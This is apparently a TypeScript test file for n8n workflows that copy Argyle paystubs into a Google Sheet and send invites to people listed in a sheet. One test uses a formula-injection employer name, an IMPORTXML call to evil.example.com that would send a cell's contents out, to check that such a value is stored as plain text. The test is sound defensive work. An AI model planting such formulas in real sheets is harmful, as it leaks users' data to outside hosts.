import { randomUUID } from 'node:crypto';
import type { FakeArgyle, StoredRecord } from '../support/fakeArgyle/index.mts';
import { type FakeGoogle, FORMULA } from '../support/fakeGoogle.mts';
import { isJson, type Json } from '../support/json.mts';
import { readExamples, runByHand, runPublished } from '../support/n8n/example.mts';
import { chosen, type ExampleFixture } from './exampleFixture.mts';

export const SHEET = { parameters: { documentId: chosen('the-spreadsheet'), sheetName: chosen('gid=0') } };

/** The sheet of people, in each node that reads or writes it. */
export const INVITE_SHEETS = Object.fromEntries(
	['People', 'Write Sending', 'Write Result', 'People Afterwards'].map((node) => [node, SHEET]),
);

/** Delivers `paystubs.added` for new paystubs of a new account. */
export async function addPaystubs(argyle: FakeArgyle, count: number, fields: Json = {}): Promise<StoredRecord[]> {
	const account = randomUUID();
	const paystubs = argyle.addRecords('paystubs', count, { ...fields, account });
	const user = argyle.accounts.get(account)?.user;
	const [added_to, added_from] = [paystubs[0]?.paystub_date, paystubs.at(-1)?.paystub_date];
	await argyle.deliver('paystubs.added', { account, user, added_count: count, added_from, added_to });
	return paystubs;
}

/** The columns that the sample of the paystubs has, in its order. */
function paystubColumns(): string[] {
	const [sample]: unknown[] = Object.values(
		readExamples().find(({ file }) => file === 'paystubs-to-sheet.json')?.pinData ?? {},
	).slice(-1);
	const [item]: unknown[] = Array.isArray(sample) ? sample : [];
	return isJson(item) && isJson(item.json) ? Object.keys(item.json) : [];
}

/** Fills the sheet; without a status, people are not invited yet. */
export function fillSheet(google: FakeGoogle, people: string[][]): void {
	google.rows.length = 0;
	google.rows.push(['First Name', 'Last Name', 'Email'], ...people);
}

export function resultsInSheet(google: FakeGoogle): Map<unknown, Json> {
	const [head = [], ...rows] = google.rows;
	const results = rows.map((row) => Object.fromEntries(head.map((column, index) => [String(column), row[index]])));
	return new Map(results.map((result) => [result.Email, result]));
}

export function sheetExampleTests(fixture: () => ExampleFixture): void {
	it('paystubs-to-sheet.json adds one row per new paystub to an empty sheet, also for two events at the same time', async () => {
		const { client, argyle, google, importWorkflow } = fixture();
		const workflow = await importWorkflow('paystubs-to-sheet.json', { 'Add Rows': SHEET });
		await client.publish(workflow);
		const paystubs = (await Promise.all([addPaystubs(argyle, 55), addPaystubs(argyle, 2)])).flat();
		const executions = await client.waitForExecutions(workflow.id, 2);
		await client.unpublish(workflow.id);
		expect(executions.map(({ status }) => status)).toEqual(['success', 'success']);
		const [head = [], ...rows] = google.rows;
		expect(head).toEqual(paystubColumns());
		const amounts = ['gross_pay', 'net_pay', 'hours'];
		const cell = (column: unknown, value: unknown) =>
			amounts.includes(String(column)) ? Number(value) : isJson(value) ? JSON.stringify(value) : value;
		const expected = paystubs.map((paystub) => head.map((column) => cell(column, paystub[String(column)])));
		const sorted = (table: unknown[][]) => table.map((row) => JSON.stringify(row)).sort();
		expect(sorted(rows)).toEqual(sorted(expected));
	});

	it('paystubs-to-sheet.json writes an employer who is named like a formula as text, and a missing amount as nothing', async () => {
		const { client, argyle, google, importWorkflow } = fixture();
		google.rows.length = 0;
		const workflow = await importWorkflow('paystubs-to-sheet.json', { 'Add Rows': SHEET });
		const employer = '=IMPORTXML("https://evil.example.com/?"&A2, "//a")';
		const { status } = await runPublished(client, workflow, async () => {
			await addPaystubs(argyle, 1, { employer, hours: null });
		});
		expect(status).toBe('success');
		const [head = [], row = []] = google.rows;
		expect(row[head.indexOf('employer')]).toBe(employer);
		expect(row[head.indexOf('hours')] ?? '').toBe('');
		expect(row).not.toContain(FORMULA);
	});

	it('sheet-to-invites.json invites each person of the sheet once, and writes into the sheet what came of it', async () => {
		const { client, argyle, google, importWorkflow } = fixture();
		const workflow = await importWorkflow('sheet-to-invites.json', INVITE_SHEETS);
		fillSheet(google, [
			['Alex', 'Sample', 'alex@example.com'],
			['Bea', 'Other', 'no address'],
			['Cem', 'Third', 'cem@example.com'],
			['Dan', 'Fourth', 'dan@example.com'],
			['No', 'Address', ''],
		]);
		argyle.addFault({ kind: 'statusAfterCommit', status: 502, method: 'POST', path: '/v2/invites' });
		argyle.addFault({ kind: 'status', status: 500, method: 'POST', path: '/v2/invites', skip: 1 });
		const { status, error } = await runByHand(client, workflow, 'Every Morning');
		argyle.clearFaults();
		expect(status).toBe('error');
		expect(error).toMatch(
			/^3 of 5 people in the sheet are left out: Bea Other, not invited, Email is not an e-mail address/,
		);
		expect(error).toContain('; Dan Fourth, to be checked, It is not known whether the invite was sent');
		expect(error).toContain('; No Address, not invited, Email is missing');
		const results = resultsInSheet(google);
		const [invite] = [...argyle.invites.values()].filter(({ email }) => email === 'alex@example.com');
		expect(results.get('alex@example.com')).toMatchObject({
			Status: 'invited',
			User: invite?.user,
			Invite: invite?.id,
		});
		expect(results.get('no address')).toMatchObject({
			...{ Status: 'not invited', Message: expect.stringContaining('Enter one address such as name@example.com') },
		});
		expect(results.get('cem@example.com')).toMatchObject({ Status: 'invited' });
		expect(results.get('dan@example.com')).toMatchObject({
			...{ Status: 'to be checked', Message: expect.stringContaining('Check with Invite: Get Many') },
		});
		expect(JSON.stringify(google.rows)).not.toContain('verify.argyle.com');

		// The next morning: one address was corrected, Dan's invite is still to be looked for, a row was left by a crash.
		const [, , bea = [], , , none = []] = google.rows;
		bea[2] = 'bea@example.com';
		none.fill('');
		google.rows.push(['Eve', 'Fifth', 'eve@example.com', 'sending']);
		const morning = await runByHand(client, workflow, 'Every Morning');
		expect(morning.error).toMatch(
			/^2 of 5 people in the sheet are left out: Dan Fourth, to be checked, .*; Eve Fifth, sending$/,
		);
		const messages = ['alex', 'bea', 'cem', 'dan', 'eve'].map((name) => argyle.messagesTo(`${name}@example.com`));
		expect(messages).toEqual([1, 1, 1, 0, 0]);
		expect(resultsInSheet(google).get('bea@example.com')).toMatchObject({ Status: 'invited', Message: '' });

		// Somebody has looked.
		for (const [index, row] of google.rows.entries()) if (index > 3) row[3] = 'invited';
		expect(await runByHand(client, workflow, 'Every Morning')).toMatchObject({ status: 'success' });
		expect(argyle.messagesTo('dan@example.com') + argyle.messagesTo('eve@example.com')).toBe(0);
	});

	it('sheet-to-invites.json invites a person with two rows once, who has connected by the next morning', async () => {
		const { client, argyle, google, importWorkflow } = fixture();
		const workflow = await importWorkflow('sheet-to-invites.json', INVITE_SHEETS);
		fillSheet(google, [
			['Tom', 'Twice', 'tom@example.com'],
			['Tom', 'Twice', 'Tom@Example.com '],
		]);
		const leftOut =
			/^1 of 2 people in the sheet are left out: Tom Twice, to be checked, It has the address or number of row 2 /;
		expect((await runByHand(client, workflow, 'Every Morning')).error).toMatch(leftOut);
		const invite = [...argyle.invites.values()].find(({ email }) => email === 'tom@example.com');
		await argyle.person(invite?.id ?? '').connect();
		expect((await runByHand(client, workflow, 'Every Morning')).error).toMatch(leftOut);
		expect([argyle.messagesTo('tom@example.com'), argyle.messagesTo('Tom@Example.com')]).toEqual([1, 0]);
	});

	it('sheet-to-invites.json says of nobody that they are invited, when the open invite to the address is that of somebody else', async () => {
		const { client, argyle, google, importWorkflow } = fixture();
		const workflow = await importWorkflow('sheet-to-invites.json', INVITE_SHEETS);
		fillSheet(google, [['Joe', 'Burnam', 'burnams@example.com']]);
		expect((await runByHand(client, workflow, 'Every Morning')).status).toBe('success');
		const invite = [...argyle.invites.values()].find(({ email }) => email === 'burnams@example.com');
		google.rows.push(['Jane', 'Burnam', 'burnams@example.com', 'Not invited']);
		const { error } = await runByHand(client, workflow, 'Every Morning');
		expect(error).toMatch(/^1 of 2 people in the sheet are left out: Jane Burnam, to be checked, The invite /);
		const [, , jane = []] = google.rows;
		expect(jane).toMatchObject({ 3: 'to be checked', 4: invite?.user, 5: invite?.id });
		expect(jane[6]).toMatch(/^The invite whose IDs stand beside is that of Joe Burnam\. /);
		expect(argyle.messagesTo('burnams@example.com')).toBe(1);
		google.rows.splice(2, 1, ['JOE ', 'Burnam', 'burnams@example.com']);
		expect(await runByHand(client, workflow, 'Every Morning')).toMatchObject({ status: 'success' });
		expect(google.rows[2]).toMatchObject({ 3: 'invited', 5: invite?.id });
	});
}
